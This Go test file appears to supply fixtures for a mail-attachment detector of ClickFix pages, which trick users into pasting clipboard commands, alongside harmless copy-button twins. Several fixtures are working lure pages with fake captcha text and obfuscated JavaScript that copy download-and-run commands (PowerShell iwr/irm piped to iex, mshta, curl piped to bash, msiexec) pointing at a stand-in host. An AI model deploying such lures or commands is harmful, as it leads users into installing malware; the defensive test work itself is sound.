package heuristic

// clickfixPage is a page for clipboard-command: what Chromium's clipboard
// holds once every button is clicked (cmd, "" for an honest twin, which
// copies no command) is held to what the check says.
type clickfixPage struct {
	name, page string
	cmd        string // the start of the command the page copies; "" for a twin
}

// clickfixTricks are ClickFix pages as kits write them: the command
// written whole, built from pieces, decoded from base64, copied through
// a field, or run from a script the page decodes.
func clickfixTricks() []clickfixPage {
	return []clickfixPage{
		{"fake captcha, writeText in a handler", `<html><body><h2>Verify you are human</h2><p>1. Press Windows + R<br>2. Press CTRL + V<br>3. Press Enter</p>
<button onclick="navigator.clipboard.writeText('powershell -w hidden -c &quot;iwr https://verify.example.net/a.ps1 | iex&quot;')">I'm not a robot</button></body></html>`, "powershell -w hidden"},
		{"how to fix, a field copied", `<html><body><div>Word could not display this document. Click "How to fix".</div><button id="b">How to fix</button><script>
document.getElementById('b').onclick=function(){var t=document.createElement('textarea');t.value=atob('cG93ZXJzaGVsbCAtZSBTUUJGQUZnQQ==');document.body.appendChild(t);t.select();document.execCommand('copy');}
</script></body></html>`, "powershell -e SQBFAFgA"},
		{"mshta with a decoy comment", `<html><body><script>
const c = "mshta https://verify.example.net/check.hta # I am not a robot - reCAPTCHA Verification ID: 4471";
function v(){ navigator.clipboard.writeText(c); }
</script><p>Press <b>Win</b>+<b>R</b>, then <b>Ctrl</b>+<b>V</b> and <b>Enter</b>.</p><button onclick="v()">Verify</button></body></html>`, "mshta https://verify.example.net/check.hta"},
		{"names and command in pieces", `<html><body><script>
var n = navigator, k = "clip"+"board";
var p = ["pow","ersh","ell"].join("") + " -nop -w 1 -c " + "\"irm https://verify.example.net/x|iex\"";
function go(){ n[k]["writeText"](p); }
</script><button onclick="go()">Verify</button></body></html>`, "powershell -nop -w 1"},
		{"filefix, a path after a padded comment", `<html><body><p>Copy the path, open File Explorer and paste it into the address bar.</p><button id="b">Copy</button>
<script>document.getElementById("b").addEventListener("click",function(){navigator.clipboard.writeText("powershell.exe -c ping example.com                                        # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx")})</script></body></html>`, "powershell.exe -c ping"},
		{"macOS terminal, script in base64", `<html><body><p>Open Terminal and paste.</p><script>
eval(atob("ZG9jdW1lbnQub25jbGljaz1mdW5jdGlvbigpe25hdmlnYXRvci5jbGlwYm9hcmQud3JpdGVUZXh0KCdjdXJsIC1mc1NMIGh0dHBzOi8vdmVyaWZ5LmV4YW1wbGUubmV0L2kuc2ggfCBiYXNoJyl9"))
</script><button>Fix</button></body></html>`, "curl -fsSL https://verify.example.net/i.sh | bash"},
		{"cmd and the copy event", `<html><body><script>
document.addEventListener("copy", function(e){ e.clipboardData.setData("text/plain", "cmd /c start /min msiexec /q /i https://verify.example.net/u.msi"); e.preventDefault(); });
function go(){ document.execCommand("copy"); }
</script><button onclick="go()">Copy code</button></body></html>`, "cmd /c start /min msiexec"},
	}
}

// clickfixTwins copy what they show, or show commands without copying.
func clickfixTwins() []clickfixPage {
	return []clickfixPage{
		{"copy button for an install line", `<html><body><h1>Install</h1><pre id="c">pip install requests</pre><script>
function cp(){ navigator.clipboard.writeText(document.getElementById("c").innerText); }
</script><button onclick="cp()">Copy</button></body></html>`, ""},
		{"copy a SQL field, a command in the text", `<html><body><script>
function copyCode(){ var t=document.getElementById("code"); t.select(); document.execCommand("copy"); }
</script><textarea id="code">SELECT * FROM accounts;</textarea><button onclick="copyCode()">Copy SQL</button><p>Run "cmd /c dir" or powershell -Command Get-Date in your shell.</p></body></html>`, ""},
		{"a command in script, never copied", `<html><body><script>
var help = "powershell -Command Get-Help"; document.getElementById && console.log(help);
</script><p>Help page</p></body></html>`, ""},
	}
}

func clickfixCases() map[string][]sample {
	var out []sample
	for _, c := range clickfixTricks() {
		out = append(out, sample{c.name, attach(htmlPart("2", c.page, named("Document.html"))), "2"})
	}
	out = append(out, sample{"svg", attach(text("2", `<svg xmlns="http://www.w3.org/2000/svg"><script>function f(){navigator.clipboard.writeText("powershell -ep bypass -c iex(irm verify.example.net/s)")}</script><text onclick="f()" y="20">Verify</text></svg>`, named("captcha.svg"))), "2"})
	for _, c := range clickfixTwins() {
		out = append(out, sample{c.name, attach(htmlPart("2", c.page, named("Document.html"))), ""})
	}
	// A mail body's scripts never run in a mail client.
	out = append(out, sample{"in a body", msg(htmlPart("1", clickfixTricks()[0].page)), ""})
	return map[string][]sample{"clipboard-command": out}
}
